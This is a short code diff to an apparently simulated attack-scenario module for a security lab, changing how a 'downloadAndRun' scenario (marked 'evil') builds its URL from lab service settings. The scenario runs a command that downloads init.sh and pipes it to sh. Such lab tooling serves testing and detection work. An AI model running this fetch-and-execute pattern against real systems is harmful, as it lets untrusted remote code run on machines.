@@ -1,4 +1,4 @@
-import { labPorts } from "../lab/labServices.ts";
+import { labServices } from "../lab/labServices.ts";
 import { hiddenWord } from "./ensureSimulators.ts";
 import type { HostShape, Scenario } from "./scenario.ts";
 
@@ -194,7 +194,7 @@ const downloadAndRun: Scenario = {
   kind: "evil",
   fits: anywhere,
   async start(stage) {
-    const url = `http://${stage.host.gateway}:${labPorts.download}/init.sh`;
+    const url = `http://${labServices.address}:${labServices.downloadPort}/init.sh`;
     const script = `start shell sh -c '${downloader(stage.host)} ${url} | sh; true'`;
     return { processes: await stage.run("ops", script), paths: [] };
   },
